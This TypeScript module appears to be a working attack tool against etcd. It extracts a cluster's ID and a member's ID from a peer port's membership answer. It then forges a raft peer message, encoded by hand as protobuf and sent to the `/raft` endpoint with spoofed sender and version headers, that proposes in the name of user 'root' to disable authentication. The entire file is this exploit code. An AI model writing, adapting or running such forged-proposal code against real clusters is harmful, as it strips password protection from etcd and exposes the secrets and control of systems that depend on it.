/** A message as etcd's members send it to each other, which none of them has sent. */
import { randomBytes } from "node:crypto";

/** An HTTP request for a member's peer port. */
export interface Forged {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Buffer;
}

/** Which member a message is for. */
export interface Target {
  /** The cluster's number, in hexadecimal digits. */
  readonly cluster: string;
  /** The member's number. */
  readonly member: bigint;
}

/**
 * Both numbers, from what a peer port answers to `GET /members`, headers included.
 * @param name of the member
 */
export function targetIn(answer: string, name: string): Target {
  const [, cluster] = /^X-Etcd-Cluster-ID: (\w+)/im.exec(answer) ?? [];
  // Too large for JSON's numbers
  const [, member] = new RegExp(`"id":(\\d+),[^{}]*"name":"${name}"`).exec(answer) ?? [];
  if (!cluster || !member) throw new Error(`${name} is not named in ${answer}`);
  return { cluster, member: BigInt(member) };
}

/**
 * Proposes to the quorum, in the name of its user `root`, that passwords count no more. A member
 * that takes it hands it to the leader; no password is asked for among members.
 */
export function forgedAuthDisable({ cluster, member }: Target): Forged {
  // etcd's own definitions: InternalRaftRequest, in an Entry, in a Message of the type MsgProp
  const header = [number(1, BigInt(randomBytes(4).readUInt32BE())), bytes(2, Buffer.from("root"))];
  const request = [bytes(100, Buffer.concat(header)), bytes(1011, Buffer.alloc(0))];
  const entry = bytes(4, Buffer.concat(request));
  return {
    path: "/raft",
    headers: {
      "Content-Type": "application/protobuf",
      "X-Etcd-Cluster-ID": cluster,
      "X-Server-From": "1",
      "X-Server-Version": "3.5.16",
      "X-Min-Cluster-Version": "3.0.0",
    },
    body: Buffer.concat([number(1, 2n), number(2, member), bytes(7, entry)]),
  };
}

function number(field: number, value: bigint): Buffer {
  return Buffer.concat([varint(BigInt(field * 8)), varint(value)]);
}

function bytes(field: number, value: Buffer): Buffer {
  return Buffer.concat([varint(BigInt(field * 8 + 2)), varint(BigInt(value.length)), value]);
}

/** Protocol Buffers' number of variable length. */
function varint(value: bigint): Buffer {
  const octets: number[] = [];
  for (let rest = value; ; rest >>= 7n) {
    octets.push(Number(rest & 127n) | (rest > 127n ? 128 : 0));
    if (rest <= 127n) return Buffer.from(octets);
  }
}
